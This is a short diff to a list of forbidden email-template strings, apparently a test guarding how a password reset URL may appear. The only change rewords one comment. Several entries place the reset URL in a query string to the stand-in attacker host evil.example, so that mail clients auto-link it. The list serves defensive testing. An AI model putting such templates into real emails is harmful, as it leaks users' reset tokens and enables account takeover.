@@ -51,7 +51,7 @@ FORBIDDEN = [
     "<!-- {{ reset_url }} -->",
     "<title>{{ reset_url }}</title>",
     "<style>p { color: {{ reset_url }} }</style>",
-    # Text that email programs turn into a link.
+    # Text that email clients turn into a link.
     "<p>https://evil.example/?u={{ reset_url }}</p>",
     "<p>https://evil.example/?u=<b>{{ reset_url }}</b></p>",
     "<p>https://evil.example/?u=&#8203;{{ reset_url }}</p>",
